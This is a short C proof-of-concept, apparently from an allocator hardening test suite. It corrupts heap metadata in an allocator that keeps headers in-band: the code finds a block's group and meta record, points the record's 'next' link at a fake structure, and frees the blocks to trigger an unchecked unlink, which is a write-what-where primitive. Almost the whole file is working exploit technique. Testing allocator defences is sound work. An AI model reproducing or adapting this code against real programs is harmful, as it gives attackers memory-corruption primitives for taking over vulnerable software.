#include "attack.h"
/* Heap metadata corruption through the in-band header (an allocator that has one):
 * follow the header of a block to its group and meta record and point the record's list
 * link at a fake, then free the group's blocks so the record is unlinked. An unchecked
 * unlink writes through the forged link (write-what-where). */
int main(void)
{
	char *p[8];
	for (int i = 0; i < 8; i++) p[i] = malloc(1000);
	unsigned char *h = (unsigned char *)p[0];
	size_t off = h[-2] | h[-1] << 8;
	void **group = (void **)(h - 16 * off - 16);
	void **meta = (void **)group[0];
	static void *fake[8];
	meta[1] = fake; /* next */
	for (int i = 0; i < 8; i++) free(p[i]);
	/* the program goes on: allocations and frees of the same size reach the record */
	for (int i = 0; i < 200; i++) {
		char *q = malloc(1000);
		sink = q;
		free(q);
	}
	return 0;
}
